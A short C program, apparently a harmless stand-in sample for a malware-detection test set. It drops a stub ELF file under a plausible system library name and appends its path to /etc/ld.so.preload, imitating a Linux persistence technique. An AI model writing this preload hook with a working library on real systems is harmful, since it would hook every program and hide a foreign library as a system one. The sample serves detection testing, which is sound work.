/* Wild-set stand-in: ld.so.preload persistence (harmless: the "library" is a file of the
 * sample's own with no code; the hook is written inside the sandbox only). Writes a shared
 * object path into /etc/ld.so.preload so that every dynamically linked program would load it,
 * after dropping the file into a system library directory under a plausible name. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    const char *lib = "/usr/lib/x86_64-linux-gnu/libnss_cache.so.2";
    mkdir("/usr/lib/x86_64-linux-gnu", 0755);
    int fd = open(lib, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd >= 0) {
        /* an ELF header only: enough for `file`, not loadable */
        const unsigned char head[] = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
        write(fd, head, sizeof head);
        close(fd);
    }
    fd = open("/etc/ld.so.preload", O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd < 0) return 1;
    dprintf(fd, "%s\n", lib);
    close(fd);
    return 0;
}
